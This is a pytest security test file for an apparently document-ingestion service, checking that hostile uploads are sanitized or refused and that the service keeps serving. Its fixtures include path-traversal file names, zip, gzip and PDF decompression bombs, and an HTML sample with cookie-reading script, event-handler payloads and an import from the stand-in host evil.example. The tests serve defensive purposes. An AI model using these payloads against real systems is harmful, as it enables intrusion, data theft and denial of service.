"""Untrusted uploads and inputs: file names that try to be paths, archives in disguise, a PDF bomb,
HTML with scripts, invalid UTF-8 and control characters, over-long fields. Each is stored safely or
refused with a clear 4xx naming the field; a failed document leaves no points; the service keeps serving
(a request after each)."""

from __future__ import annotations

import gzip
import io
import zipfile
from typing import Any

import pytest
import sqlalchemy as sa

from service.models import Document
from tests.conftest import Api
from tests.unit.test_parsers import flate_bomb, raw_pdf

TEXT = b"Our shop opens at nine in the morning and closes at six in the evening on weekdays."


async def _still_serving(api: Api) -> None:
    assert (await api.client.get("/health")).status_code == 200
    listed = await api.client.get("/v1/brands/shop/documents", headers=api.admin)
    assert listed.status_code == 200, listed.text


def _problem(response: Any, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    return dict(response.json())


async def _upload_raw(api: Api, filename: str, content: bytes, content_type: str = "text/plain") -> Any:
    """A multipart body written by hand, so the file name reaches the service exactly as given."""
    boundary = "b0undary7"
    head = (
        f"--{boundary}\r\n"
        f'Content-Disposition: form-data; name="file"; filename="{filename}"\r\n'
        f"Content-Type: {content_type}\r\n\r\n"
    ).encode()
    body = head + content + f"\r\n--{boundary}--\r\n".encode()
    return await api.client.post(
        "/v1/brands/shop/documents",
        content=body,
        headers={**api.admin, "content-type": f"multipart/form-data; boundary={boundary}"},
    )


@pytest.mark.parametrize(
    ("sent", "stored"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("/etc/hosts.txt", "hosts.txt"),
        ("..\\\\..\\\\Windows\\\\win.txt", "win.txt"),
        ("C:\\\\Users\\\\me\\\\hours.md", "hours.md"),
        ("notes/./../../hours.txt", "hours.txt"),
        ("bell\x07\x1b[31m.txt", "bell[31m.txt"),
        ("report\u202etxt.md", "reporttxt.md"),
    ],
)
async def test_path_like_file_names_are_stored_as_a_safe_base_name(api: Api, sent: str, stored: str) -> None:
    await api.brand("shop")
    response = await _upload_raw(api, sent, TEXT)
    assert response.status_code == 202, response.text
    assert response.json()["filename"] == stored
    doc = await api.wait_document("shop", response.json()["id"])
    assert doc["status"] == "ready" and doc["filename"] == stored
    hits = (
        await api.client.get("/v1/brands/shop/knowledge/search?q=when+does+the+shop+open", headers=api.admin)
    ).json()["hits"]
    assert hits and all(h["source_id"].startswith(stored + "#") for h in hits)
    await _still_serving(api)


@pytest.mark.parametrize("sent", ["..", ".", "../", "dir/..", "\u200b\u202e"])
async def test_names_with_nothing_left_are_422_naming_file(api: Api, sent: str) -> None:
    await api.brand("shop")
    body = _problem(await _upload_raw(api, sent, TEXT), 422)
    assert "file" in {e["field"] for e in body["errors"]}
    await _still_serving(api)


def _zip(names: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in names.items():
            archive.writestr(name, data)
    return buffer.getvalue()


async def test_archives_are_415_whatever_their_name(api: Api) -> None:
    await api.brand("shop")
    docx = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    bomb = _zip({"bomb.txt": b"\0" * (20 * 1024 * 1024)})  # 20 MiB of zeros in some 20 KiB
    cases = {
        "handbook.docx": (docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        "faq.json": (bomb, "application/json"),  # a zip bomb renamed
        "notes.txt": (gzip.compress(TEXT * 1000), "text/plain"),  # gzip'd text
        "archive.zip": (bomb, "application/zip"),
    }
    for name, (content, content_type) in cases.items():
        body = _problem(await _upload_raw(api, name, content, content_type), 415)
        assert "not accepted" in body["detail"], (name, body)
        await _still_serving(api)
    runtime = api.client.app.state.runtime  # type: ignore[attr-defined]
    async with runtime.sessionmaker() as session:
        assert (await session.scalar(sa.select(sa.func.count()).select_from(Document))) == 0


async def test_a_gzip_encoded_json_body_is_refused_not_inflated(api: Api) -> None:
    await api.brand("shop")
    integration = await api.key("integration", ["shop"])
    bomb = gzip.compress(b'{"text": "' + b"a" * (50 * 1024 * 1024) + b'"}')
    response = await api.client.post(
        "/v1/posts",
        content=bomb,
        headers={**integration, "content-type": "application/json", "content-encoding": "gzip"},
    )
    assert response.status_code in (400, 415), response.text  # never inflated, never a 5xx
    assert response.headers["content-type"].startswith("application/problem+json")
    await _still_serving(api)


async def test_a_pdf_bomb_fails_and_leaves_no_points(api: Api) -> None:
    await api.brand("shop")
    good = await _upload_raw(api, "hours.txt", TEXT)
    assert (await api.wait_document("shop", good.json()["id"]))["status"] == "ready"
    runtime = api.client.app.state.runtime  # type: ignore[attr-defined]
    before = await runtime.vectors.count()
    response = await _upload_raw(api, "bomb.pdf", raw_pdf(flate_bomb(1024)), "application/pdf")
    assert response.status_code == 202, response.text
    doc = await api.wait_document("shop", response.json()["id"], timeout=60)
    assert doc["status"] == "failed" and doc["error"]
    assert await runtime.vectors.count(document_id=doc["id"]) == 0
    assert await runtime.vectors.count() == before  # the good document's points untouched
    await _still_serving(api)


async def test_html_scripts_never_reach_the_chunks(api: Api) -> None:
    await api.brand("shop")
    html = b"""<!doctype html><html><head><title>Returns</title>
    <script>alert('stolen ' + document.cookie)</script><style>body{background:url(evil)}</style></head>
    <body onload="alert('onload')"><h1>Returns</h1>
    <p>You can return any product within thirty days for a full refund.</p>
    <noscript><script>alert('nested')</script></noscript>
    <template><p>template alert hidden</p></template>
    <iframe srcdoc="<script>alert('iframe')</script>"></iframe>
    <p onclick="alert('click')">Refunds reach your card within five working days.</p>
    <SCRIPT type="module">import('//evil.example/x.js')</SCRIPT></body></html>"""
    response = await _upload_raw(api, "returns.html", html, "text/html")
    doc = await api.wait_document("shop", response.json()["id"])
    assert doc["status"] == "ready" and doc["chunks"] >= 1
    # every chunk of the brand's only document, as the vector engine stores and search returns them
    search = await api.client.get(
        "/v1/brands/shop/knowledge/search", params={"q": "return refund days", "limit": 50}, headers=api.admin
    )
    assert search.status_code == 200, search.text
    texts = " ".join(f"{hit['title']} {hit['text']}" for hit in search.json()["hits"])
    assert "thirty days" in texts and "five working days" in texts
    for leaked in ("alert", "cookie", "evil", "import(", "<script", "onload", "background"):
        assert leaked not in texts.lower(), leaked
    await _still_serving(api)


async def test_invalid_utf8_and_control_characters(api: Api) -> None:
    await api.brand("shop")
    integration = await api.key("integration", ["shop"])
    # a JSON body that is not UTF-8 is malformed: 400, not a 500
    raw = (
        b'{"brand": "shop", "channel": "twitter", "external_id": "u1", '
        b'"text": "caf\xe9 \xff", "author": {"handle": "a"}}'
    )
    response = await api.client.post(
        "/v1/posts", content=raw, headers={**integration, "content-type": "application/json"}
    )
    _problem(response, 400)
    # an uploaded text file that is not UTF-8 fails with the byte named, and leaves no points
    upload = await _upload_raw(api, "latin.txt", "Öffnungszeiten: neun bis sechs".encode("latin-1"))
    doc = await api.wait_document("shop", upload.json()["id"])
    assert doc["status"] == "failed" and "byte" in doc["error"]
    runtime = api.client.app.state.runtime  # type: ignore[attr-defined]
    assert await runtime.vectors.count(document_id=doc["id"]) == 0
    # control characters in a post's text are accepted as text (escape sequences stay inert data)
    text = "where is my order?\x1b[2J\x07\r\nplease help"
    post = await api.client.post(
        "/v1/posts",
        json={
            "brand": "shop",
            "channel": "twitter",
            "external_id": "u2",
            "text": text,
            "author": {"handle": "a"},
        },
        headers=integration,
    )
    assert post.status_code == 202, post.text
    stored = await api.client.get(f"/v1/posts/{post.json()['id']}", headers=integration)
    assert stored.status_code == 200
    await _still_serving(api)


async def test_over_long_banned_phrases_are_422_naming_the_field(api: Api) -> None:
    body = {
        "slug": "shop",
        "name": "Shop",
        "language": "en",
        "timezone": "UTC",
        "voice": {"formality": "formal", "banned_phrases": ["ok", "x" * 100_000]},
    }
    problem = _problem(await api.client.post("/v1/brands", json=body, headers=api.admin), 422)
    assert any(e["field"].startswith("voice.banned_phrases") for e in problem["errors"]), problem
    empty = {**body, "voice": {"formality": "formal", "banned_phrases": [""]}}
    _problem(await api.client.post("/v1/brands", json=empty, headers=api.admin), 422)
    assert (await api.client.get("/health")).status_code == 200
